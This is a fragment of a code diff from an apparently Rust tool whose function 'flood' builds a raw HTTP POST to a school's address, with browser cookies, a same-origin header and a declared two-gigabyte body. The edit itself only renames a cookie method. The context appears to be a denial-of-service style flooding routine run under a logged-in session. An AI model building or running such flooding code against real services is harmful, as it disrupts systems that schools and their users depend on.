@@ -30,7 +30,7 @@ fn flood(
         "POST {path} HTTP/1.1\r\nHost: {}\r\nSec-Fetch-Site: same-origin\r\nCookie: {}\r\nConnection: close\r\n\
          Content-Type: {kind}\r\nContent-Length: {TWO_GIGABYTES}\r\n\r\n{start}",
         school.address,
-        browser.cookie_header()
+        browser.cookies()
     );
     let mut hears = stream.try_clone()?;
     let ear = std::thread::spawn(move || {
